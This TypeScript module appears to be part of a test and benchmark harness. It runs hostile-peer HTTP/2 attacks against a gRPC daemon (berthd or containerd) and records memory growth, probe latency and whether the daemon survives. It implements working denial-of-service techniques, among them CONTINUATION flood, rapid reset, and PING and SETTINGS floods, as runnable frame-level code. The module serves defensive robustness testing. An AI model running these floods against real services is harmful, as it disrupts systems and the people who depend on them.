/**
 * The hostile-peer attacks of issue 12, each against a live gRPC daemon (berthd or containerd) at a
 * chosen size, with what decides the acceptance measured around it: the daemon's RSS growth, the
 * latency of a Version call on a new connection every 100 ms (from another process,
 * h2-probe.js), whether the daemon is still up, and every frame it sent checked against the
 * attacking peer's own settings. test/transport/h2-abuse.test.ts runs them at CI sizes;
 * bench/h2-abuse.ts at the issue's sizes, beside containerd.
 */
import { spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ctr } from './ctr';
import { ERR, ERR_NAME, FLAG, frame, grpcMessage, literal, RawPeer, requestBlock, T, u32 } from './h2-peer';

export const VERSION = '/containerd.services.version.v1.Version/Version';
const SUBSCRIBE = '/containerd.services.events.v1.Events/Subscribe';
const SNAPSHOTS_LIST = '/containerd.services.snapshots.v1.Snapshots/List';
const NS: Array<[string, string]> = [['containerd-namespace', 'default']];

export interface AttackOutcome {
  /** What happened, in a few words (the table's cell). */
  outcome: string;
  /** Frames the daemon sent that broke the attacker's settings. */
  violations: string[];
  /** For the acceptance: false when the attack got a behaviour the issue calls wrong (e.g. a deadline fired). */
  ok: boolean;
}

export interface Attack {
  name: string;
  /** The issue's size, and the one CI runs. */
  sizes: { full: number; ci: number };
  run(address: string, size: number): Promise<AttackOutcome>;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** How a never-reading flood ended: the daemon closed the socket, stopped reading, or took it all. */
async function flood(peer: RawPeer, total: number, batch: number, make: (i: number) => Buffer): Promise<{ sent: number; how: 'closed' | 'stalled' | 'all' }> {
  let sent = 0;
  while (sent < total) {
    const n = Math.min(batch, total - sent);
    const parts: Buffer[] = [];
    for (let i = 0; i < n; i++) parts.push(make(sent + i));
    const wrote = peer.write(parts);
    const r = await Promise.race([wrote, sleep(3000).then(() => 'stall' as const)]);
    if (r === 'stall') return { sent, how: 'stalled' };
    // A reading peer stops at the server's GOAWAY, as real clients do (the server half-closes after it).
    if (!r || peer.closed || peer.goaway) return { sent, how: 'closed' };
    sent += n;
    // A turn of the event loop per batch, so a reading peer reads between its writes as real ones do.
    await new Promise((r) => setImmediate(r));
  }
  return { sent, how: 'all' };
}

function goawayText(p: RawPeer): string {
  return p.goaway
    ? `GOAWAY ${ERR_NAME[p.goaway.code] ?? p.goaway.code}${p.goaway.debug ? ` "${p.goaway.debug.slice(0, 40)}"` : ''}`
    : p.closed
      ? 'closed'
      : 'open';
}

export const ATTACKS: Attack[] = [
  {
    name: 'deadline-30d',
    sizes: { full: 3000, ci: 500 },
    // A 30-day grpc-timeout (grpc-go's encoding of long deadlines), the message 50 ms after the headers.
    async run(address, holdMs) {
      const p = await RawPeer.open(address);
      const timeout: Array<[string, string]> = [['grpc-timeout', '2592000S'], ...NS];
      await p.write(frame(T.HEADERS, FLAG.END_HEADERS, 1, requestBlock(VERSION, timeout)));
      await sleep(50);
      await p.write(frame(T.DATA, FLAG.END_STREAM, 1, grpcMessage()));
      await p.call(3, SUBSCRIBE, Buffer.alloc(0), timeout);
      await p.until(() => p.statuses.get(1)?.status !== undefined, 3000);
      await sleep(holdMs);
      const version = p.statuses.get(1)?.status;
      const sub = p.statuses.get(3)?.status;
      p.close();
      return {
        outcome: `Version status ${version ?? 'none'}; Subscribe ${sub === undefined ? `open after ${holdMs} ms` : `ended with ${sub}`}`,
        violations: p.violations,
        ok: version === '0' && sub === undefined,
      };
    },
  },
  {
    name: 'non-ascii-error',
    sizes: { full: 5000, ci: 5000 },
    // An error echoing client input: a snapshotter named '€' × n (UTF-8, percent-encoded in grpc-message).
    async run(address, n) {
      const name = Buffer.from('€'.repeat(n), 'utf8');
      const body = Buffer.concat([Buffer.from([0x0a]), varint(name.length), name]);
      const p = await RawPeer.open(address);
      await p.call(1, SNAPSHOTS_LIST, body, NS);
      await p.until(() => p.statuses.get(1)?.status !== undefined || p.closed, 3000);
      const st = p.statuses.get(1);
      p.close();
      const real = await ctr(address, ['snapshots', '--snapshotter', '€'.repeat(n), 'ls'], { timeoutMs: 15000 });
      const ctrSaw = real.stderr.includes('transport is closing') ? 'ctr: "transport is closing"' : `ctr: ${real.stderr.trim().slice(0, 60)}…`;
      return {
        outcome: `status ${st?.status ?? 'none'}, grpc-message ${st?.message?.length ?? 0} bytes; ${ctrSaw}`,
        violations: p.violations,
        ok: st?.status !== undefined && !real.stderr.includes('transport is closing'),
      };
    },
  },
  {
    name: 'huge-header',
    sizes: { full: 2 << 20, ci: 2 << 20 },
    // One header value of `size` bytes, Huffman-coded, in HEADERS + CONTINUATION frames as large as the server allows.
    async run(address, size) {
      const p = await RawPeer.open(address);
      const max = await p.serverMaxFrame();
      const block = Buffer.concat([requestBlock(VERSION, NS), literal('x-big', 'a'.repeat(size), true)]);
      const frames: Buffer[] = [];
      for (let off = 0; off < block.length; off += max) {
        const end = Math.min(off + max, block.length);
        frames.push(frame(off === 0 ? T.HEADERS : T.CONTINUATION, end === block.length ? FLAG.END_HEADERS : 0, 1, block.subarray(off, end)));
      }
      frames.push(frame(T.DATA, FLAG.END_STREAM, 1, grpcMessage()));
      const t0 = Date.now();
      // A server may stop reading it (and never close): give up writing after 5 s.
      await Promise.race([p.write(frames), sleep(5000)]);
      await p.until(() => p.statuses.get(1)?.status !== undefined || p.closed || p.goaway !== undefined || p.rst(1) !== undefined, 5000);
      const ms = Date.now() - t0;
      const st = p.statuses.get(1)?.status;
      const rst = p.rst(1);
      p.close();
      return {
        outcome:
          st !== undefined
            ? `answered status ${st} in ${ms} ms`
            : rst !== undefined
              ? `RST_STREAM ${ERR_NAME[rst]} in ${ms} ms`
              : `${goawayText(p)} in ${ms} ms`,
        violations: p.violations,
        ok: true,
      };
    },
  },
  {
    name: 'continuation-flood',
    sizes: { full: 64 << 20, ci: 4 << 20 },
    // 4 connections, each a HEADERS without END_HEADERS followed by `bytes` of CONTINUATION frames
    // (as large as the server allows, of valid HPACK literals).
    async run(address, bytes) {
      const peers = await Promise.all(Array.from({ length: 4 }, () => RawPeer.open(address)));
      const max = await peers[0]!.serverMaxFrame();
      const one = literal('x-h', 'v'.repeat(1000));
      const piece = Buffer.concat(Array.from({ length: Math.floor(max / one.length) }, () => one));
      const results = await Promise.all(
        peers.map(async (p) => {
          await p.write(frame(T.HEADERS, 0, 1, requestBlock(VERSION, NS)));
          return flood(p, Math.ceil(bytes / piece.length), Math.max(1, Math.floor((1 << 20) / piece.length)), () => frame(T.CONTINUATION, 0, 1, piece));
        }),
      );
      await Promise.all(peers.map((p) => p.ended(1000)));
      const mib = results.map((r) => ((r.sent * piece.length) / 1048576).toFixed(1));
      const out = `${results.map((r) => r.how).join('/')} after ${mib.join('/')} MiB; ${peers.map(goawayText).join(', ')}`;
      for (const p of peers) p.close();
      return { outcome: out, violations: peers.flatMap((p) => p.violations), ok: true };
    },
  },
  {
    name: 'ping-flood',
    sizes: { full: 1_000_000, ci: 50_000 },
    // PINGs from a client that never reads.
    async run(address, n) {
      const p = await RawPeer.open(address, { read: false });
      const r = await flood(p, n, 4096, (i) => frame(T.PING, 0, 0, u32(0, i)));
      p.close();
      return { outcome: `${r.how} after ${r.sent} PINGs`, violations: [], ok: true };
    },
  },
  {
    name: 'settings-flood',
    sizes: { full: 1_000_000, ci: 50_000 },
    // Empty SETTINGS frames from a client that never reads.
    async run(address, n) {
      const p = await RawPeer.open(address, { read: false });
      const r = await flood(p, n, 4096, () => frame(T.SETTINGS, 0, 0));
      p.close();
      return { outcome: `${r.how} after ${r.sent} SETTINGS`, violations: [], ok: true };
    },
  },
  {
    name: 'big-window-calls',
    sizes: { full: 200_000, ci: 10_000 },
    // Version calls from a client that opened 2^31-1 windows and never reads.
    async run(address, n) {
      const p = await RawPeer.open(address, { read: false, settings: [[4, 0x7fffffff]] });
      await p.write(frame(T.WINDOW_UPDATE, 0, 0, u32(0x7fffffff - 65535)));
      const block = requestBlock(VERSION, NS);
      const msg = grpcMessage();
      const r = await flood(p, n, 512, (i) =>
        Buffer.concat([frame(T.HEADERS, FLAG.END_HEADERS, 2 * i + 1, block), frame(T.DATA, FLAG.END_STREAM, 2 * i + 1, msg)]),
      );
      p.close();
      return { outcome: `${r.how} after ${r.sent} calls`, violations: [], ok: true };
    },
  },
  {
    name: 'rapid-reset',
    sizes: { full: 50_000, ci: 5_000 },
    // HEADERS + DATA (END_STREAM) + RST_STREAM(CANCEL) per stream: each starts a handler, then cancels it.
    async run(address, n) {
      const p = await RawPeer.open(address);
      const block = requestBlock(VERSION, NS);
      const msg = grpcMessage();
      const rst = u32(ERR.CANCEL);
      const r = await flood(p, n, 256, (i) =>
        Buffer.concat([
          frame(T.HEADERS, FLAG.END_HEADERS, 2 * i + 1, block),
          frame(T.DATA, FLAG.END_STREAM, 2 * i + 1, msg),
          frame(T.RST_STREAM, 0, 2 * i + 1, rst),
        ]),
      );
      await p.ended(500);
      const refused = p.frames.filter((f) => f.type === T.RST_STREAM && f.payload.readUInt32BE(0) === ERR.REFUSED_STREAM).length;
      const answered = [...p.statuses.values()].filter((s) => s.status !== undefined).length;
      p.close();
      return { outcome: `${r.how} after ${r.sent} streams (${answered} answered, ${refused} refused); ${goawayText(p)}`, violations: p.violations, ok: true };
    },
  },
];

function varint(n: number): Buffer {
  const out: number[] = [];
  while (n >= 128) {
    out.push((n & 0x7f) | 0x80);
    n = Math.floor(n / 128);
  }
  out.push(n);
  return Buffer.from(out);
}

export function rssKiB(pid: number): number {
  const m = /VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
  return m ? Number(m[1]) : 0;
}

export function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

/** The probe script (plain JS): beside this file, or in the checkout when this runs from dist-bench/. */
const PROBE = [join(__dirname, 'h2-probe.js'), join(__dirname, '..', '..', '..', 'test', 'helpers', 'h2-probe.js')].find((p) => existsSync(p))!;

export interface Measured extends AttackOutcome {
  name: string;
  size: number;
  rssBeforeMiB: number;
  rssGrowthMiB: number;
  probes: number;
  probeMaxMs: number;
  probeFailures: string[];
  alive: boolean;
  ms: number;
}

/**
 * Runs one attack against the daemon `pid` serving `address` while a probe process calls Version
 * every 100 ms on a new connection, and samples the daemon's RSS every 20 ms.
 */
export async function measure(address: string, pid: number, attack: Attack, size: number): Promise<Measured> {
  const probe = spawn(process.execPath, [PROBE, address, '100', '5000'], { stdio: ['ignore', 'pipe', 'inherit'] });
  const lines: Array<{ ms: number | null; err?: string }> = [];
  let buf = '';
  probe.stdout!.on('data', (c: Buffer) => {
    buf += c.toString();
    let i: number;
    while ((i = buf.indexOf('\n')) >= 0) {
      lines.push(JSON.parse(buf.slice(0, i)));
      buf = buf.slice(i + 1);
    }
  });
  // Let the probe make a first call before the attack, and take the baseline then.
  const deadline = Date.now() + 5000;
  while (!lines.length && Date.now() < deadline) await sleep(10);
  const before = rssKiB(pid);
  let peak = before;
  const sampler = setInterval(() => {
    if (alive(pid)) peak = Math.max(peak, rssKiB(pid));
  }, 20);
  const t0 = Date.now();
  let result: AttackOutcome;
  try {
    result = await attack.run(address, size);
  } catch (e) {
    result = { outcome: `attack failed: ${(e as Error).message}`, violations: [], ok: false };
  }
  const ms = Date.now() - t0;
  // Two more probes after the attack: the daemon must still answer.
  const n = lines.length;
  const after = Date.now() + 3000;
  while (lines.length < n + 2 && Date.now() < after) await sleep(10);
  clearInterval(sampler);
  probe.kill();
  const times = lines.map((l) => l.ms ?? Infinity);
  return {
    name: attack.name,
    size,
    ...result,
    rssBeforeMiB: before / 1024,
    rssGrowthMiB: (peak - before) / 1024,
    probes: lines.length,
    probeMaxMs: Math.max(...times),
    probeFailures: lines.filter((l) => l.ms === null).map((l) => l.err ?? '?'),
    alive: alive(pid),
    ms,
  };
}
